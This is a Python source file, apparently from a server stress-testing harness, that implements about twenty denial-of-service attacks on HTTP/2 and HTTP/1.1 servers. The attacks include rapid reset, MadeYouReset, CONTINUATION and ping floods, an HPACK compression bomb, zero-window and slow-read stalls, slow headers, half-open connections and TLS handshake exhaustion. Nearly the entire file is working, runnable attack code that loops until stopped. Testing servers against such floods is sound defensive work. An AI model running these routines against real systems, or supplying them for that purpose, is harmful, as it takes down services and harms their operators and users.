"""Peers that make a server work, wait or remember for nothing. Each attack runs until it is stopped, and opens a
new connection whenever the server has ended the last."""

import contextlib
import struct

from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, ENDLESS_CALL, EMPTY_MESSAGE, GET, HEADERS,
                  INITIAL_WINDOW_SIZE, OPEN_CALL, PING, PREFACE, PRIORITY, SETTINGS, WINDOW_UPDATE, data,
                  incremental, length, literal, raw, reset, settings, window_update)

PAGE = [*GET[:2], (":path", "/metrics"), GET[3]]


def block(fields):
    """Fields as literals: the same bytes serve on every connection."""
    return b"".join(literal(*field) for field in fields)


def headers(stream, fields, end=False):
    return raw(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block(fields))


def streams(first, count):
    return range(first * 2 + 1, (first + count) * 2 + 1, 2)


def rapid_reset(attacker):
    attacker.flood(lambda: b"", lambda turn: b"".join(
        headers(stream, OPEN_CALL) + reset(stream) for stream in streams(turn * 50, 50)))


def made_you_reset(attacker):
    attacker.flood(lambda: b"", lambda turn: b"".join(
        headers(stream, OPEN_CALL) + window_update(stream, 0x7fff_ffff) for stream in streams(turn * 50, 50)))


def continuation_flood(attacker):
    attacker.flood(lambda: raw(HEADERS, 0, 1, block(GET)),
                   lambda turn: raw(CONTINUATION, 0, 1, literal("x-flood", "a" * 1000)) * 10)


def empty_frames(attacker):
    attacker.flood(lambda: headers(1, OPEN_CALL), lambda turn: raw(DATA, 0, 1) * 1000)


def settings_flood(attacker):
    attacker.flood(lambda: b"", lambda turn: raw(SETTINGS) * 500)


def ping_flood(attacker):
    attacker.flood(lambda: b"", lambda turn: raw(PING, 0, 0, bytes(8)) * 500)


def priority_flood(attacker):
    attacker.flood(lambda: b"", lambda turn: b"".join(
        raw(PRIORITY, 0, stream, struct.pack(">IB", stream - 2 if stream > 1 else 0, 7))
        for stream in streams(turn * 200 % 1_000_000, 200)))


def window_update_flood(attacker):
    attacker.flood(lambda: headers(1, OPEN_CALL), lambda turn: window_update(1, 1) * 1000)


def unknown_frames(attacker):
    attacker.flood(lambda: b"", lambda turn: raw(0xbe, 0, 0) * 1000)


def hpack_bomb(attacker):
    # An entry of 4 000 bytes, then a block of nothing but references to it: 64 MB for each 16 KiB.
    bomb = block(GET) + b"\xbe" * 16_000
    attacker.flood(
        lambda: raw(HEADERS, END_HEADERS | END_STREAM, 1, block(GET) + incremental(b"x-bomb", b"a" * 4_000)),
        lambda turn: raw(HEADERS, END_HEADERS | END_STREAM, turn * 2 + 3, bomb))


def zero_windows(attacker):
    # 10 000 answers that wait for a window.
    opening = PREFACE + settings({INITIAL_WINDOW_SIZE: 0}) + b"".join(
        headers(stream, GET, True) for stream in streams(0, 200))
    attacker.hold(50, lambda n: opening)


def shrinking_windows(attacker):
    def again(turn):
        return b"".join(settings({INITIAL_WINDOW_SIZE: size}) for size in (0, 65_535) * 20)
    # Calls that wait for their message: requests that are answered would cost more than the windows.
    attacker.flood(lambda: b"".join(headers(stream, OPEN_CALL) for stream in streams(0, 200)), again)


def slow_headers(attacker):
    opening = PREFACE + settings() + raw(HEADERS, 0, 1, block(GET))[:30]
    attacker.hold(500, lambda n: opening, lambda turn: b"a", 1)


def slow_http1_headers(attacker):
    attacker.hold(500, lambda n: b"GET / HTTP/1.1\r\nHost: a\r\nx-slow: ", lambda turn: b"a", 1)


def slow_read(attacker):
    # Answers are asked for and never taken from the socket.
    attacker.reads = False
    wide = PREFACE + settings({INITIAL_WINDOW_SIZE: 0x7fff_ffff}) + window_update(0, 0x7fff_0000 - 65_535)
    attacker.hold(50, lambda n: wide + b"".join(headers(stream, PAGE, True) for stream in streams(0, 200)),
                  lambda turn: b"".join(headers(stream, PAGE, True) for stream in streams(200 + turn * 100, 100)))


def stream_overrun(attacker):
    attacker.flood(lambda: b"", lambda turn: b"".join(
        headers(stream, ENDLESS_CALL) + data(stream, EMPTY_MESSAGE, True) for stream in streams(turn * 300, 300)))


def half_open(attacker):
    # 10 000 connections that begin and say no more. A few at a time, so that none is lost to a full backlog.
    attacker.hold(10_000, lambda n: (b"", b"PRI", PREFACE, PREFACE + settings() + raw(HEADERS, 0, 1)[:5])[n % 4],
                  seconds=1)


def http1_pipelining(attacker):
    attacker.send_for_ever(lambda: b"", lambda turn: b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n" * 500)


def http1_pipelining_unread(attacker):
    attacker.reads = False
    request = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
    attacker.hold(50, lambda n: request, lambda turn: request * 500, 0.02)


def unfinished_messages(attacker):
    # Each stream declares 4 MiB and sends all but a little, as far as the windows let it.
    attacker.hold_connections(30, lambda connection: Hoard(connection, streams(0, 16), 4 << 20))


class Hoard:
    """A connection whose streams send the beginnings of messages, within the windows that the server grants."""

    def __init__(self, connection, numbers, size):
        self.connection, self.size = connection, size
        self.left = dict.fromkeys(numbers, size - 1)
        self.window, self.windows = 65_535, dict.fromkeys(numbers, 65_535)
        self.unread, self.unsent = b"", PREFACE + settings()
        for number in numbers:
            self.unsent += headers(number, OPEN_CALL)
            self.put(number, b"\0" + struct.pack(">I", size))

    def put(self, number, payload):
        self.unsent += data(number, payload)
        self.window -= len(payload)
        self.windows[number] -= len(payload)

    def turn(self):
        """Reads what the server grants, and sends as much as the socket takes."""
        self.read()
        for number, left in self.left.items():
            while len(self.unsent) < 1 << 18 and (size := min(16_384, left, self.window, self.windows[number])) > 0:
                self.put(number, bytes(size))
                left -= size
            self.left[number] = left
        with contextlib.suppress(BlockingIOError):
            self.unsent = self.unsent[self.connection.send(self.unsent):]

    def read(self):
        with contextlib.suppress(BlockingIOError):
            if not (more := self.connection.recv(1 << 16)):
                raise ConnectionError("closed")
            self.unread += more
        while len(self.unread) >= 9 + int.from_bytes(self.unread[:3], "big"):
            end = 9 + int.from_bytes(self.unread[:3], "big")
            kind, flags, stream = struct.unpack(">BBI", self.unread[3:9])
            self.take(kind, flags, stream, self.unread[9:end])
            self.unread = self.unread[end:]

    def take(self, kind, flags, stream, payload):
        if kind == WINDOW_UPDATE and stream == 0:
            self.window += int.from_bytes(payload, "big")
        elif kind == WINDOW_UPDATE and stream in self.windows:
            self.windows[stream] += int.from_bytes(payload, "big")
        elif kind == SETTINGS and not flags:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == INITIAL_WINDOW_SIZE:
                    self.windows = {stream: window + value - 65_535 for stream, window in self.windows.items()}
            self.unsent += raw(SETTINGS, 1)
        elif stream in self.left and kind != WINDOW_UPDATE:
            # The server has ended it.
            self.left[stream] = 0


def tls_handshakes(attacker):
    # Whole handshakes, each of which costs the server a signature.
    while attacker.active:
        with contextlib.suppress(OSError):
            attacker.connect().close()
            attacker.held.value = 1


def metrics_pages(attacker):
    # The largest page that anybody may ask for, a hundred at a time, taken as fast as it comes.
    wide = settings({INITIAL_WINDOW_SIZE: 0x7fff_ffff}) + window_update(0, 0x7fff_0000 - 65_535)
    attacker.flood(lambda: wide, lambda turn: b"".join(
        headers(stream, PAGE, True) for stream in streams(turn * 100, 100)))


PLAIN = [rapid_reset, made_you_reset, continuation_flood, empty_frames, settings_flood, ping_flood, priority_flood,
         window_update_flood, unknown_frames, hpack_bomb, zero_windows, shrinking_windows, slow_headers,
         slow_http1_headers, slow_read, stream_overrun, half_open, http1_pipelining, http1_pipelining_unread,
         unfinished_messages, metrics_pages]
# What TLS adds: records to be opened and closed, buffers for each connection, and handshakes.
OVER_TLS = [rapid_reset, made_you_reset, empty_frames, settings_flood, ping_flood, zero_windows, slow_read,
            http1_pipelining, http1_pipelining_unread, tls_handshakes]
